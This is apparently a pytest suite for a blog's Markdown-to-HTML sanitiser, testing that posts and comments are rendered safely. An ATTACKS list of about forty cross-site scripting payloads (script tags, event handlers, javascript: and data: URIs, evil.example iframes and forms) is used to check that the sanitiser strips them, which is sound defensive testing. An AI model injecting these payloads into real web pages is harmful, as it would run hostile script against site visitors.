"""Markdown becomes HTML, and nothing in it becomes a program."""

import pytest

from blog import limits
from blog.errors import InvalidError
from blog.markdown import clean_html_of, excerpt_of, image_names, render_comment, render_post
from blog.sanitizing import Picture

# Each was a hole in something once.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](https://a.example/b.png"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<div class="toast" id="toasts" onclick="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</div></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "```<script>\nalert(1)\n```",
    "```rust\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    '<a href="x" onmouseover="alert(1)" target="_blank">x</a>',
]
FORBIDDEN = (
    "<script",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<meta",
    "<link",
    "<base",
)


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    for tag in (*FORBIDDEN, "<svg", "<math", "<video", "<noscript"):
        assert tag not in lowered
    # What is left of an attack is text: nothing of it stands inside a tag.
    for tag in lowered.split("<")[1:]:
        inside = tag.partition(">")[0]
        assert not any(word in inside for word in (" on", "javascript:", "data:", "vbscript:", "style=", "srcdoc")), tag


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_survives_in_a_post(text: str) -> None:
    assert_harmless(render_post(text))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_survives_in_a_comment(text: str) -> None:
    html = render_comment(text)
    assert_harmless(html)
    assert "<img" not in html


def test_the_test_for_harm_finds_harm() -> None:
    for harm in ("<script>", "<p onclick=x>", '<a href="javascript:x">'):
        with pytest.raises(AssertionError):
            assert_harmless(harm)


def test_tables_footnotes_strikethrough_and_code_are_understood() -> None:
    text = "|a|b|\n|-|-:|\n|1|2|\n\n~~gone~~[^1]\n\n```rust,ignore\nfn main() {}\n```\n\n[^1]: A note."
    html = render_post(text)
    assert '<div class="scroll" tabindex="0"><table>' in html
    assert '<td class="right">2</td>' in html
    assert "<s>gone</s>" in html
    assert 'href="#s-fn1"' in html
    assert 'id="s-fn1"' in html
    assert '<code class="language-rust"><span class="k">fn</span>' in html


def test_code_of_an_unknown_language_is_escaped_and_plain() -> None:
    assert '<code class="language-nolang">&lt;b&gt; &amp;\n</code>' in render_post("```nolang\n<b> &\n```")


def test_headings_get_ids_that_links_in_the_text_reach() -> None:
    html = render_post("[to it](#what-is-new)\n\n## What is new?\n\n## What is new?")
    assert 'href="#s-what-is-new"' in html
    assert '<h2 id="s-what-is-new">' in html
    assert '<h2 id="s-what-is-new-2">' in html


def test_no_id_of_a_text_can_pose_as_the_pages_own() -> None:
    html = render_post('<h2 id="toasts">x</h2>\n\n## main\n\n<li id="comments">y</li>')
    assert 'id="s-toasts"' in html
    assert 'id="s-main"' in html
    assert 'id="comments"' not in html


def test_the_first_level_of_headings_belongs_to_the_page() -> None:
    html = render_post("# One\n\n## Two\n\n###### Six")
    assert '<h2 id="s-one">' in html
    assert '<h3 id="s-two">' in html
    assert '<h6 id="s-six">' in html


def test_html_that_is_open_at_the_end_is_closed() -> None:
    assert render_post("<div><b>bold").count("</div>") == 1


def test_an_image_of_the_post_gets_its_address_and_size() -> None:
    pictures = {"a b.png": Picture("/media/blog/1.png", 400, 200)}
    html = render_post('![Alt "x"](./a%20b.png "Title") <img src="a b.png" width="100px" class="big">', pictures)
    first, second = html.split("<img")[1:]
    assert 'src="/media/blog/1.png" alt="Alt &quot;x&quot;" title="Title" width="400" height="200"' in first
    assert 'src="/media/blog/1.png" alt="" width="100" height="50"' in second
    assert "class" not in second


@pytest.mark.parametrize("source", ["x.png", "http://a.example/x.png", "//a.example/x.png", "/media/../secret.png"])
def test_an_image_from_elsewhere_becomes_its_alternative_text(source: str) -> None:
    html = render_post(f"![A chart]({source})")
    assert '<span class="missing">Image: A chart</span>' in html
    assert "<img" not in html


def test_images_over_https_and_of_our_own_media_are_shown() -> None:
    assert '<img src="https://a.example/x.png"' in render_post("![x](https://a.example/x.png)")
    assert '<img src="/media/x.png"' in render_post("![x](/media/x.png)")


def test_the_names_of_images_are_found_however_they_are_written() -> None:
    text = '![a](b.png) <img alt=x src="c.png"> ![r][q]\n\n`![no](code.png)`\n\n[q]: d.png "t"'
    assert image_names(clean_html_of(text)) == ["b.png", "c.png", "d.png"]


def test_links_say_that_they_lead_away() -> None:
    assert 'rel="noopener noreferrer"' in render_post("[x](https://a.example)")
    assert 'rel="noopener noreferrer nofollow ugc"' in render_comment("[x](https://a.example)")


def test_comments_hold_no_html_headings_or_images() -> None:
    html = render_comment("# Loud\n\n<b>bold</b> ![i](https://a.example/x.png)\n\n> quote\n\n- *item*")
    assert "<h1" not in html
    assert "&lt;b&gt;" in html
    assert "<img" not in html
    assert "<blockquote>" in html
    assert "<li><em>item</em></li>" in html


def test_sizes_are_counted_in_bytes() -> None:
    render_comment("ä" * (limits.COMMENT_BYTES // 2))
    with pytest.raises(InvalidError, match="10,002 bytes long; at most 10,000"):
        render_comment("ä" * (limits.COMMENT_BYTES // 2 + 1))
    with pytest.raises(InvalidError) as caught:
        render_post("x" * (limits.BODY_BYTES + 1))
    assert set(caught.value.messages) == {"body"}


@pytest.mark.parametrize("text", ["", "  \n ", "a\x00b"])
def test_nothing_and_nul_are_refused(text: str) -> None:
    for render in (render_post, render_comment):
        with pytest.raises(InvalidError):
            render(text)


def test_deep_nesting_is_refused_or_flattened_in_time() -> None:
    with pytest.raises(InvalidError, match="nested more than 200 deep"):
        render_post("<div>" * 5_000)
    assert render_post(">" * 5_000 + " x").count("<blockquote>") <= 20
    # What the next of its kind closes isn't nested.
    assert render_post("<p>a\n" * 1_000)


@pytest.mark.parametrize("unit", ["[", "![", "*a ", "`", "<a ", "[a](", "|a", "~~a", "&", "[^1]"])
def test_text_made_to_be_slow_is_not_slow_out_of_proportion(unit: str) -> None:
    render_post(unit * (20_000 // len(unit)))


def test_the_excerpt_is_the_first_paragraph_as_text() -> None:
    html = render_post("## Title\n\n![x](y.png)\n\nA *first* paragraph & more.\n\nA second.")
    assert excerpt_of(html) == "Image: x"
    assert excerpt_of(render_post("# T\n\nA *first* `<p>` & more.\n\nNo.")) == "A first <p> & more."
    assert excerpt_of(render_post("# Only a title")) == ""
    assert len(excerpt_of(render_post("word " * 500))) <= limits.EXCERPT_CHARACTERS
